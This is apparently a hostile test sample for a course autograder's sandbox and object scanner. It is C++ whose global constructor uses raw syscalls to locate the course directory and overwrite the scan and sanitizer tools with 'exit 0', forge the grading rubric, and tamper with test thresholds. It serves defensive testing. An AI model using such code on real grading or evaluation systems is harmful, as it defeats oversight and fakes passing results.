// HOSTILE (tampering with the course): a C++ global object's constructor
// finds the course tree (the scratch build's CMakeCache.txt, next to the
// test program /proc/self/exe names, says CMAKE_HOME_DIRECTORY) and rewrites
// tools/scan-objects and tools/sanitize to `exit 0` (every later submission
// passes the scan and the sanitizer) and grader/rubric.json, and appends to
// tests/thresholds.h (every later test program is rebuilt from it). Raw
// `syscall` instructions only: nothing in the symbol table.
// Must stop it: the object scan (a global constructor, raw system calls) and
// the sandbox (the course is read-only to the test program, or not there).
#include "vector_add.h"

#pragma hostile raw_syscalls

static char g_buf[1 << 20];

/* the folder of the running program: /proc/self/exe without its last part */
static long exe_dir(char *out, long cap)
{
    long n = hs_sys(HS_READLINKAT, HS_AT_FDCWD, (long)"/proc/self/exe", (long)out, cap - 1, 0, 0);
    if (n <= 0) return 0;
    out[n] = '\0';
    while (n > 0 && out[n - 1] != '/') --n;
    out[n] = '\0';
    return n;
}

static void cat3(char *dst, const char *a, const char *b, const char *c)
{
    long k = 0;
    for (const char *s = a; *s; ++s) dst[k++] = *s;
    for (const char *s = b; *s; ++s) dst[k++] = *s;
    for (const char *s = c; *s; ++s) dst[k++] = *s;
    dst[k] = '\0';
}

static void put(const char *path, const char *text, long flags)
{
    long fd = hs_open(path, O_WRONLY | flags, 0755);
    if (fd < 0) return;
    hs_write(fd, text, hs_strlen(text));
    hs_close(fd);
}

struct CourseTamper {
    CourseTamper()
    {
        char dir[4096], path[8192], course[4096];
        if (!exe_dir(dir, sizeof dir)) return;
        cat3(path, dir, "CMakeCache.txt", "");
        long fd = hs_open(path, O_RDONLY, 0), n = 0, r;
        if (fd < 0) return;
        while (n < (long)sizeof g_buf - 1 && (r = hs_read(fd, g_buf + n, (long)sizeof g_buf - 1 - n)) > 0) n += r;
        hs_close(fd);
        g_buf[n] = '\0';
        static const char key[] = "\nCMAKE_HOME_DIRECTORY:INTERNAL=";
        long i = 0, kl = sizeof key - 1;
        for (; i < n; ++i) {
            long j = 0;
            while (j < kl && g_buf[i + j] == key[j]) ++j;
            if (j == kl) break;
        }
        if (i >= n) return;
        long k = 0;
        for (i += kl; g_buf[i] && g_buf[i] != '\n' && k < (long)sizeof course - 1; ++i) course[k++] = g_buf[i];
        course[k] = '\0';
        static const char ok[] = "#!/bin/sh\n# HOSTILE-FORGED: replaced by a submission\nexit 0\n";
        cat3(path, course, "/tools/scan-objects", "");
        put(path, ok, O_TRUNC);
        cat3(path, course, "/tools/sanitize", "");
        put(path, ok, O_TRUNC);
        cat3(path, course, "/grader/rubric.json", "");
        put(path, "{\"HOSTILE-FORGED\": true}\n", O_TRUNC);
        cat3(path, course, "/tests/thresholds.h", "");
        put(path, "\n/* HOSTILE-FORGED */\n", O_APPEND);
    }
};
static CourseTamper g_tamper;

#pragma hostile skeleton
